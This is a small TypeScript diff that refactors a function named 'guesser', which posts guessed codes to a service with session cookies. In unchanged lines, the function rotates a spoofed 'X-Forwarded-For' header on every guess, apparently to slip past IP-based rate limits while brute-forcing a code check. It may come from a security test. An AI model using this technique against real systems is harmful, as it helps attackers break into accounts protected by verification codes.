@@ -31,9 +31,11 @@ async function guesser(): Promise<(code: string) => Promise<Answer>> {
   return (code) => {
     guessed += 1;
     return service.send({
-      ...{ method: 'POST', path: CODE },
+      method: 'POST',
+      path: CODE,
       headers: {
-        ...{ Cookie: cookies.join('; '), Accept: 'text/html' },
+        Cookie: cookies.join('; '),
+        Accept: 'text/html',
         'X-Forwarded-For': `203.${guessed >> 8}.${guessed & 255}.7`,
         'Content-Type': 'application/x-www-form-urlencoded',
       },
